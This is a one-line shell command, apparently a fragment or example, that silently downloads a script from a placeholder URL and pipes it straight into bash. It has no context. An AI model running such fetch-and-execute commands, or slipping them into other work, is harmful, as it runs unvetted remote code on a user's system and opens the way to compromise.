bash <(curl -s http://x/y)
